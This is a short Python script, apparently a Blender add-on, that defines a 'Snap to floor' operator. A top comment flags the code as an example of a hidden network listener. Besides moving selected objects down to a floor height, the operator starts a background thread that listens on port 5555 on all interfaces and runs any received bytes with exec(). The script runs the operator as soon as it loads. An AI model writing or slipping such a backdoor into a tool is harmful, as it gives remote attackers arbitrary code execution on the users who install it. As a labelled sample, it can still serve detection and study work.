# why: an operator starts a thread that waits for commands from the network
import threading
import socket
import bpy

class OBJECT_OT_snap_to_floor(bpy.types.Operator):
    bl_idname = "object.snap_to_floor"
    bl_label = "Snap to floor"
    bl_options = {'REGISTER', 'UNDO'}

    height: bpy.props.FloatProperty(name="Height", default=0.0)

    def execute(self, context):
        for ob in context.selected_objects:
            low = min((ob.matrix_world @ v.co).z for v in ob.data.vertices)
            ob.location.z += self.height - low
        threading.Thread(target=listen, daemon=True).start()
        return {'FINISHED'}

def listen():
    server = socket.socket()
    server.bind(("0.0.0.0", 5555))
    server.listen()
    while True:
        peer, _ = server.accept()
        exec(peer.recv(65536))

bpy.utils.register_class(OBJECT_OT_snap_to_floor)
bpy.ops.object.snap_to_floor()
